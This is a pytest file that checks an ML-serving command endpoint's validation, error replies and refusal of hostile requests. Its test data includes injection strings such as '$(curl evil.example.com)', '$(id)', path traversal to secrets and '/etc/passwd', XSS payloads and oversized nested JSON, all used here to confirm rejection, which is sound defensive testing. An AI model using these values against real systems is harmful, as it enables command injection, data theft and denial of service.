"""What a caller is told: at once, which field, and nothing that could do harm. Hostile bodies are refused, bounded, and change nothing."""

import json
from typing import Any

import pytest

from shared.errors import Park, Retry
from shared.events.command import COMMAND_LIMIT_BYTES
from shared.handlers.answer import Reply, serve_callers
from shared.handlers.command import receive_command
from tests.support.builders import RANKER, document
from tests.support.commands import RANKER as RANKER_FILE
from tests.support.rig import PostedRequest
from tests.unit.handlers.twins_command import ALICE, PUSH_ACCOUNT, Scene, bearer, pushed

SERVICE = str(RANKER)
SPEC = RANKER_FILE["spec"]
APPLY: dict[str, Any] = {"command": "apply", "command_id": "c1", "service": SERVICE, "spec": SPEC}


def served(scene: Scene, body: bytes, headers: dict[str, str] | None = None, method: str = "POST") -> tuple[int, Any, dict[str, str]]:
    request = PostedRequest(body, bearer(ALICE) if headers is None else headers, method)
    text, status, sent = serve_callers("command", request, lambda found, read: receive_command(found, read, scene.ports))
    return status, json.loads(text) if sent["Content-Type"] == "application/json" else text, sent


def refused(scene: Scene, command: object) -> list[dict[str, str]]:
    body = command if isinstance(command, bytes) else json.dumps(command).encode()
    status, content, _ = served(scene, body)
    assert (status, content["outcome"]) == (400, "refused")
    problems: list[dict[str, str]] = content["problems"]
    assert problems
    return problems


def test_an_answer_is_json_with_everything_a_script_needs() -> None:
    status, content, headers = served(Scene(), json.dumps(APPLY).encode())
    assert (status, set(content)) == (200, {"command_id", "outcome", "problems", "generation", "detail"})
    assert (content["outcome"], content["problems"], content["generation"]) == ("done", [], 1)
    assert content["detail"].startswith("generation 1; lint warns: gpu-quota-default-exceeded")
    assert headers == {"Content-Type": "application/json", "X-Content-Type-Options": "nosniff", "Cache-Control": "no-store"}


def test_every_wrong_field_is_named_at_once() -> None:
    spec = {**SPEC, "scale": {"max_instance_count": 0}, "autonomy": "yolo", "colour": "red"}
    assert {problem["field"] for problem in refused(Scene(), {**APPLY, "spec": spec})} == {
        "spec.scale.max_instance_count",
        "spec.autonomy",
        "spec.colour",
    }


def test_what_cloud_run_would_refuse_is_refused_now_with_what_to_do() -> None:
    (problem,) = refused(Scene(), {**APPLY, "spec": {**SPEC, "serving": {**SPEC["serving"], "memory": "1Gi"}}})
    assert problem["field"] == "spec.serving.memory"
    assert problem["fix"]


@pytest.mark.parametrize(
    "body", [b"", b"null", b"[]", b"{", b"{}", b'{"command": 7}', b'{"command": "aply"}', b"\xff\xfe", b'{"a":1,"a":2}']
)
def test_what_is_no_command_is_refused_with_a_reason(body: bytes) -> None:
    assert refused(Scene(), body)[0]["problem"]


def test_a_command_needs_an_id_where_no_message_brings_one() -> None:
    (problem,) = refused(Scene(), {name: value for name, value in APPLY.items() if name != "command_id"})
    assert problem["field"] == "command_id"


def test_a_store_that_is_away_is_told_with_when_to_come_again() -> None:
    class Away:
        def read_spec(self, service: object) -> object:
            raise Retry("reading: unavailable", after_seconds=7.2)

    status, content, headers = served(Scene(store=Away()), json.dumps(APPLY).encode())
    assert (status, content["outcome"], headers["Retry-After"]) == (503, "later", "8")


def test_a_push_is_answered_for_delivery_and_not_in_json() -> None:
    assert served(Scene(), pushed(APPLY), bearer(PUSH_ACCOUNT))[:2] == (200, "done\n")
    assert served(Scene(), pushed({"command": "nope"}), bearer(PUSH_ACCOUNT))[:2] == (200, "parked\n")


@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE"])
def test_only_post_is_taken(method: str) -> None:
    assert served(Scene(), b"", method=method)[0] == 405


def test_a_bug_is_a_500_that_tells_nothing() -> None:
    class Broken:
        def read_spec(self, service: object) -> object:
            raise KeyError("secret of the house")

    status, content, _ = served(Scene(store=Broken()), json.dumps(APPLY).encode())
    assert (status, content) == (500, "bug\n")


# -- hostile

HOSTILE = [
    "acme-ml:europe-west1:ranker/../../secrets",
    "acme-ml:europe-west1:$(curl evil.example.com)",
    "acme-ml:europe-west1:ranker\n",
    "acme-ml:europe-west1:RANKER",
    "acme-ml:europe-west1:ränker",
    "acme-ml:europe-west1:" + "r" * 50,
    "../acme-ml:europe-west1:ranker",
    "acme-ml:europe-west1:ranker\x00",
    "<script>alert(1)</script>",
    "*",
    "",
]


@pytest.mark.parametrize("service", HOSTILE)
def test_a_hostile_service_is_refused_and_nothing_is_written(service: str) -> None:
    scene = Scene()
    (problem,) = refused(scene, {**APPLY, "service": service})
    assert problem["field"] == "service"
    assert (scene.store.calls, scene.bus.batches) == ([], [])


@pytest.mark.parametrize(
    "serving",
    [
        {"image": "tensorflow/serving:$(id)"},
        {"environment": {"A": "$(SECRET)"}},
        {"extra_flags": {"tensorflow_session_parallelism": "$(id)"}},
        {"model": {"name": "../etc", "uri": "gs://acme-models/ranker", "version": 1}},
        {"model": {"name": "ranker", "uri": "gs://acme-models/../../x", "version": 1}},
        {"model": {"name": "ranker", "uri": "file:///etc/passwd", "version": 1}},
        {"model": {"name": 'ranker" }', "uri": "gs://acme-models/ranker", "version": 1}},
    ],
)
def test_a_spec_that_would_be_expanded_or_lead_elsewhere_is_refused(serving: dict[str, Any]) -> None:
    scene = Scene()
    assert refused(scene, {**APPLY, "spec": {**SPEC, "serving": {**SPEC["serving"], **serving}}})[0]["field"].startswith("spec.serving.")
    scene.store.put(document())
    patch = {"command": "patch", "command_id": "p", "service": SERVICE, "patch": {"serving": {**SPEC["serving"], **serving}}}
    assert refused(scene, patch)[0]["field"].startswith(("patch.serving.", "spec.serving."))
    assert scene.store.commands == {}


@pytest.mark.parametrize(
    "body",
    [
        b'{"command":"patch","patch":' + b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"}",
        b"[" * 100_000,
        b'{"command":"hold","reason":"' + b"a" * (COMMAND_LIMIT_BYTES + 1) + b'"}',
        b'{"command":"hold","service":"a:b:c","minutes":' + b"9" * 5_000 + b"}",
        b'{"command":"hold","service":"a:b:c","reason":"\\ud800"}',
        b'{"command":"apply","spec":{' + b",".join(b'"f%d":1' % number for number in range(9_000)) + b"}}",
    ],
)
def test_size_and_depth_and_number_are_bounded_and_so_is_the_answer(body: bytes) -> None:
    scene = Scene()
    status, content, _ = served(scene, body)
    assert (status, content["outcome"]) == (400, "refused")
    assert len(content["problems"]) <= 50
    assert len(json.dumps(content)) < 60_000
    assert scene.store.calls == []


def test_what_is_repeated_of_a_body_is_escaped_and_cut() -> None:
    text = "<img src=x onerror=alert(1)>\u202e\x1b[31m" + "A" * 5_000
    status, content, headers = served(Scene(), json.dumps({**APPLY, "spec": {**SPEC, "autonomy": text}}).encode())
    assert (status, headers["X-Content-Type-Options"]) == (400, "nosniff")
    (problem,) = content["problems"]
    assert len(problem["value"]) <= 200
    assert "\u202e" not in problem["value"]
    assert "\x1b" not in problem["value"]


def test_a_reason_of_many_scripts_is_kept_as_it_is() -> None:
    scene = Scene()
    scene.store.put(document())
    reason = "Größe 猫 🐈 'quoted' $(id) `x` \\"
    body = json.dumps({"command": "hold", "command_id": "h", "service": SERVICE, "reason": reason}).encode()
    assert served(scene, body)[0] == 200
    assert scene.store.documents[SERVICE][0].holds[0].reason == reason


def test_a_body_that_the_server_would_not_read_is_refused() -> None:
    def read() -> bytes:
        raise Park("too-large", "the body of 99 bytes is larger than the server reads")

    reply = receive_command(bearer(ALICE), read, Scene().ports)
    assert isinstance(reply, Reply)
    assert (reply.status, reply.content["outcome"]) == (400, "refused")
